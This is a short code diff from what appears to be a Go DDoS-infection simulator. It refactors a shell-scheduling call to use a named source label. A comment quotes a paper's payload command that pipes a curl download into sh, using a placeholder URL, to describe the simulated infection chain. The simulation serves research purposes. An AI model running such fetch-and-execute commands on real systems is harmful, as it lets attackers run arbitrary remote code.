@@ -8,6 +8,9 @@ import (
 	"ddosim/internal/sim"
 )
 
+// srcShell labels the steps of container shell scripts.
+var srcShell = sim.NewSource("container.shell")
+
 // The shell is the minimal busybox-style interpreter the infection
 // chain needs. The paper's ROP payload runs
 //   sh -c "curl -s ShellScript_URL | sh"
@@ -55,7 +58,7 @@ func (c *Container) runShellDepth(script string, onDone func(error), depth int) 
 	}
 	// Begin asynchronously so callers never observe re-entrant
 	// completion.
-	c.node.Sched().ScheduleSrc(0, "container.shell", job.step)
+	c.node.Sched().ScheduleSrc(0, srcShell, job.step)
 }
 
 func (j *shellJob) finish(err error) {
